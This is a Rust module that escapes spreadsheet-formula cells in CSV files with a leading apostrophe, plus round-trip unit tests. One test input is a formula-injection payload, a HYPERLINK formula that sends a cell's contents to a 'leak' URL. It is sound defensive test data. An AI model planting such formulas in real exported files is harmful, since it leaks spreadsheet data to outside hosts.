//! Spreadsheet cells that are never formulas: the one rule for every CSV the
//! engine writes (frames, goal sheets, comparisons, the canon as CSV) and
//! reads back (values, rosters, the canon).
//!
//! A cell a spreadsheet would run as a formula (starting with `=`, `+`, `-`,
//! `@`, a tab or a carriage return) is written with a leading apostrophe,
//! which Excel, LibreOffice and Google Sheets show as text and do not display;
//! a cell that already starts with apostrophes before such a character gets
//! one more, so that [`unescape_cell`] restores every value exactly
//! ([`safe_cell`]).
//!
//! A low module: it uses nothing else of the crate, so that the canon, the
//! rosters and the renderers can all stand on it.

use std::borrow::Cow;

/// True when a spreadsheet would read a cell starting this way as a formula.
fn starts_formula(text: &str) -> bool {
    text.trim_start_matches('\'')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell as written: prefixed with `'` when a spreadsheet would run it as a formula.
pub fn safe_cell(text: &str) -> Cow<'_, str> {
    if starts_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A cell as read back: [`safe_cell`] undone.
pub fn unescape_cell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) => rest,
        _ => text,
    }
}

/// Writes one record, every cell made safe.
pub(crate) fn write_safe<W: std::io::Write>(writer: &mut ::csv::Writer<W>, cells: &[&str]) {
    writer
        .write_record(cells.iter().map(|c| safe_cell(c).into_owned()))
        .expect("writing to memory");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_text_and_read_back_exactly() {
        for value in [
            "=1+1",
            "+2+3",
            "-4+5",
            "@SUM(1+1)",
            "\t=1",
            "\r=1",
            "=HYPERLINK(\"http://x?leak=\"&A2,\"click\")",
            "'=1",
            "''@x",
            "plain",
            "'quoted'",
            "",
        ] {
            let written = safe_cell(value);
            assert!(
                !written.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{value:?}"
            );
            assert_eq!(unescape_cell(&written), value);
        }
        assert_eq!(safe_cell("=1+1"), "'=1+1");
        assert_eq!(safe_cell("plain"), "plain");
    }
}
